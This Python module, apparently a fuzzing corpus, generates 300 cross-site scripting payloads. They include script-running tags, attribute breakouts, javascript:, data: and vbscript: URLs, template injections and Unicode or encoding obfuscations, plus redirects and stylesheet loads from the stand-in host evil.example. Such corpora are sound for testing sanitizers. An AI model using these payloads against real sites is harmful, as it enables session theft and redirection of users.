"""Texts that would run a script, wherever a page takes a text for more than a text."""

from itertools import product

CODE = "window.__pwned=1;alert(1)"

RUNNERS = (
    f"<script>{CODE}</script>",
    f"<img src=x onerror={CODE}>",
    f"<svg onload={CODE}>",
    f"<svg><script>{CODE}</script></svg>",
    f"<svg><animate onbegin={CODE} attributeName=x dur=1s>",
    f"<body onload={CODE}>",
    f"<iframe src=javascript:{CODE}>",
    f'<iframe srcdoc="<script>{CODE}</script>">',
    f"<details open ontoggle={CODE}>",
    f"<input autofocus onfocus={CODE}>",
    f"<video><source onerror={CODE}></video>",
    f"<audio src=x onerror={CODE}>",
    f"<marquee onstart={CODE}>",
    f"<a href=javascript:{CODE}>x</a>",
    f"<form action=javascript:{CODE}><button>x</button></form>",
    f"<object data=javascript:{CODE}>",
    f"<embed src=javascript:{CODE}>",
    f"<math><mtext><style><img src=x onerror={CODE}></style>",
    f"<meta http-equiv=refresh content='0;url=javascript:{CODE}'>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<base href=https://evil.example/>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>@import 'https://evil.example/x.css';</style>",
    f"<style>@keyframes x{{}}</style><b style=animation-name:x onanimationstart={CODE}>",
    f"<template><script>{CODE}</script></template>",
    f"<img src=x:x onerror={CODE} //",
    f"<button popovertarget=x onbeforetoggle={CODE}>x</button>",
    f"<p style='background:url(javascript:{CODE})'>",
)
"""Markup that runs, loads or leads away."""

WAYS_OUT = (
    "{}",
    '">{}',
    "'>{}",
    "</title>{}",
    "</script>{}",
    "--><!-- -->{}",
    "]]>{}",
    "<noscript><p title='</noscript>{}'>",
)
"""How a text leaves what it was put into, before the markup."""

ATTRIBUTES = tuple(
    f"{quote} {event}={quote}{CODE}{quote} x={quote}"
    for quote, event in product(
        "\"'`", ("onload", "onerror", "onclick", "onfocus autofocus", "onmouseover", "onpointerenter")
    )
)
ADDRESSES = (
    f"javascript:{CODE}",
    f"JaVaScRiPt:{CODE}",
    f"java\tscript:{CODE}",
    f" javascript:{CODE}",
    f"javascript://%0a{CODE}",
    f"data:text/html,<script>{CODE}</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    f"vbscript:{CODE}",
    "//evil.example/x",
    "\\\\evil.example\\x",
    "https://evil.example/",
    f"x');{CODE};//",
    f"url(javascript:{CODE})",
    f"red;background:url(javascript:{CODE})",
    "expression(alert(1))",
)
TEMPLATES = (
    "{{constructor.constructor('%s')()}}",
    "${%s}",
    "#{%s}",
    "<%%= %s %%>",
    "{@html '<img src=x onerror=%s>'}",
    "{%s}",
    "[[%s]]",
    "{{'a'.constructor.prototype.charAt=[].join;$eval('x=%s')}}",
    "`${%s}`",
    '"-(%s)-"',
    "';%s;//",
    "\\u003cscript\\u003e%s\\u003c/script\\u003e",
    "&lt;script&gt;%s&lt;/script&gt;",
    "&#60;script&#62;%s&#60;/script&#62;",
    "%%3Cscript%%3E%s%%3C/script%%3E",
    "+ADw-script+AD4-%s+ADw-/script+AD4-",
    '__proto__":{"x":"%s"}',
)
TRICKS = (
    f"＜script＞{CODE}＜/script＞",
    f"\u202e<script>{CODE}</script>",
    f"\ufeff<script>{CODE}</script>",
    f"<scr\u200bipt>{CODE}</scr\u200bipt>",
    f"<\u017fcript>{CODE}</\u017fcript>",
    f"\u2028{CODE}\u2029",
    f"ʺ onload=ʺ{CODE}",
    f"﹤img src=x onerror={CODE}﹥",
    "Z̴a̷l̸g̶o̵" * 5 + f"<script>{CODE}</script>",
    "﷽" * 20 + f"<script>{CODE}</script>",
)


def payloads() -> list[str]:
    """Return 300 texts, each another one."""
    markup = [way.format(runner) for way, runner in product(WAYS_OUT, RUNNERS)]
    shouted = [runner.replace("script", "sCrIpT").replace(" on", "\fOn").replace("<img", "<IMG") for runner in RUNNERS]
    others = [*ATTRIBUTES, *ADDRESSES, *(template % CODE for template in TEMPLATES), *TRICKS]
    return list(dict.fromkeys([*others, *markup, *shouted]))[:300]
